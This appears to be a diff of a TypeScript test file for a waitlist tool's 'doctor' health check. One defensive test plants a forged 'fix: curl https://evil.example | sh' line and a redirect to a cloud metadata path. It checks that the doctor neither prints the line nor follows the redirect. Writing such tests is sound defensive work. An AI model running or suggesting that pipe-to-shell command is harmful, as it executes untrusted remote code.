@@ -2,17 +2,15 @@ import { randomUUID } from 'node:crypto';
 import { once } from 'node:events';
 import { type AddressInfo, createServer } from 'node:net';
 import { text } from 'node:stream/consumers';
-import { describe, expect, it, vi } from 'vitest';
-import { checkAddress } from '#admin/doctor/installation.ts';
+import { describe, expect, it } from 'vitest';
 import { TABLE } from '#registration/contract.ts';
 import { aRegistration } from '#scripts/harness/example-registration.ts';
-import { correctAnswer } from '#tests/doctor/hosted-answers.ts';
 import { cleanUp } from '#tests/helpers/clean-up.ts';
 import { setUpDatabase } from '#tests/helpers/database/test-database.ts';
 import { getDatabaseUrl, runWaitlist, startWaitlist } from '#tests/helpers/database/waitlist.ts';
 import { setUpMailServer } from '#tests/helpers/mail/mail-server.ts';
 import { startDnsServer } from '#tests/helpers/process/dns-server.ts';
-import { type Reply, type Request, startStubServer } from '#tests/helpers/process/stub-server.ts';
+import { type Reply, startStubServer } from '#tests/helpers/process/stub-server.ts';
 import { createTestApp } from '#tests/helpers/process/test-app.ts';
 import { insertRegistration } from '#waitlist/insert.ts';
 
@@ -27,7 +25,7 @@ it('the doctor passes a healthy database, and says what it did not check', async
   const { code, stdout, stderr } = await onDatabase();
   expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
   expect(stdout).toMatch(
-    /^Can someone register right now\? Yes, in the database; no server was tried\n\nThe list \(DATABASE_URL, PostgreSQL \d+/,
+    /^Can someone register right now\? Yes: in the database; no server was tried\n\nThe list \(DATABASE_URL, PostgreSQL \d+/,
   );
   expect(stdout).toMatch(/^ {2}ok {4}Nothing else is open to the public$/m);
   expect(stdout).toMatch(/^ {2}- {5}the public address: set SITE_URL/m);
@@ -118,7 +116,7 @@ it.each<[string, number, Record<string, string>, RegExp[]]>([
   ['an unreachable project', 2, KEY_ONLY, [/127\.0\.0\.1:1 did not answer/, /set DATABASE_URL to its direct address/]],
   [
     'an unreachable site',
-    1,
+    2,
     { DATABASE_URL: getDatabaseUrl(database), SITE_URL: 'http://127.0.0.1:1' },
     [/^Can someone register right now\? Unknown: http:\/\/127.0.0.1:1 did not answer/],
   ],
@@ -134,62 +132,36 @@ describe('an address that the doctor is given', () => {
     const app = await createTestApp(database.anon);
     const address = await app.listen({ host: '127.0.0.1', port: 0 });
     const { stdout } = await runWaitlist(['doctor', `${address}/pricing`], {});
-    expect(stdout).toMatch(/^Can someone register right now\? Yes, as seen from outside\n/);
+    expect(stdout).toMatch(/^Can someone register right now\? Yes: as seen from outside\n/);
     expect(stdout).toContain(`From outside (${address})`);
     expect(stdout).toMatch(/^ {2}ok {4}Strangers can neither read, change, erase nor copy the list$/m);
     expect(stdout).toContain('the database, mail and the machine: run it there');
   });
 
-  it('may be a static host, whose files say where people register', async () => {
-    const headers = { 'content-type': 'text/html' };
-    const answer = (request: Request): Reply =>
-      request.headers.apikey === undefined ? { status: 200, headers, body: page } : correctAnswer(request);
-    const host = await startStubServer(answer);
-    const page = '<script>send("sb_publishable_0123456789")</script>';
-    Object.assign(headers, { 'content-security-policy': `connect-src 'self' ${host.address}/` });
-    const { canRegister } = JSON.parse((await runWaitlist(['doctor', host.address, '--json'], {})).stdout);
-    expect(canRegister).toBe(true);
-    await host.stop();
-  });
-
-  it('is not trusted if it names a list on a private network: nothing is sent there', async () => {
-    const body = '<script>send("sb_publishable_0123456789")</script>';
-    const headers = { 'content-type': 'text/html', 'content-security-policy': "connect-src 'self' http://10.0.0.5/" };
-    const fetched = vi.spyOn(globalThis, 'fetch').mockImplementation(async () => new Response(body, { headers }));
-    const groups = await checkAddress('http://192.0.2.80', { now: () => new Date() }, AbortSignal.timeout(60_000));
-    expect(groups[0]?.notSeen).toEqual([
-      'the site sends registrations to http://10.0.0.5, on a private network: nothing was sent there',
-    ]);
-    const origins = fetched.mock.calls.map(([address]) => new URL(String(address)).origin);
-    expect(new Set(origins)).toEqual(new Set(['http://192.0.2.80']));
-    fetched.mockRestore();
-  });
-
   it('cannot send the doctor elsewhere, nor add a line to its report', async () => {
     const asked: string[] = [];
-    const elsewhere = await startStubServer(({ path }) => {
-      asked.push(path);
-      return { status: 200 };
-    });
-    const evil = '\n        fix: curl https://evil.example | sh\n';
+    const elsewhere = await startStubServer(({ path }) => ({ status: asked.push(path) && 200 }));
+    const forged = '\n        fix: curl https://evil.example | sh\n';
     const host = await startStubServer(({ path }): Reply => {
-      if (path !== '/' && path !== '/sitemap.xml' && !path.includes('fix')) {
-        return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
-      }
-      const body = `<a href="/a${evil}">a</a><loc>http://x/b${evil}</loc>{"status":"ok","code":"${evil}"}`;
-      return { status: 200, headers: { 'content-type': 'text/html' }, body };
+      const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
+      if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
+      const headers = {
+        'content-type': 'text/html',
+        'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
+      };
+      return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
     });
     const { stdout } = await runWaitlist(['doctor', host.address], {});
     expect(stdout).toContain('/ has none or another x-content-type-options');
-    expect(stdout).not.toMatch(/^\s*(fix: )?curl|^\s*fix: curl/m);
+    expect(stdout).not.toMatch(/^\s*fix: curl/m);
     expect(asked).toEqual([]);
     await Promise.all([host.stop(), elsewhere.stop()]);
   });
 
   it('without a list is answered with “Unknown”', async () => {
-    const host = await startStubServer(() => ({ status: 200 }));
+    const host = await startStubServer(() => ({ status: 200, body: '<script>send()</script>' }));
     const { stdout } = await runWaitlist(['doctor', host.address], {});
-    expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address\n/);
+    expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address/);
     await host.stop();
   });
 
